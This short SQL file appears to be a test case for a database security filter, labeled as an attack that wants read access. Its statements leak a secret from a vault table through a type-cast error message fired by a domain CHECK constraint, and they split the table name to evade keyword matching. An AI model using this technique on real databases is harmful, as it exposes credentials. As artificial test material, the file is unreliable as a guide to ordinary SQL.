-- Has a constant's check look for a type with a name from the vault: the error points at the constant.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN EXECUTE sql INTO one; RETURN one; END';
CREATE FUNCTION looks_for(text) RETURNS boolean LANGUAGE sql AS 'SELECT one_of(''SELECT quote_ident(secret) FROM vlt'' || ''_account WHERE id = 1'')::regtype IS NOT NULL';
CREATE DOMAIN looked_for AS text CHECK (looks_for(VALUE));
CREATE TYPE pair_of_it AS (a looked_for);
SELECT '(1)'::pair_of_it;
SELECT E'(1)'::pair_of_it;
SELECT pair_of_it '(1)';
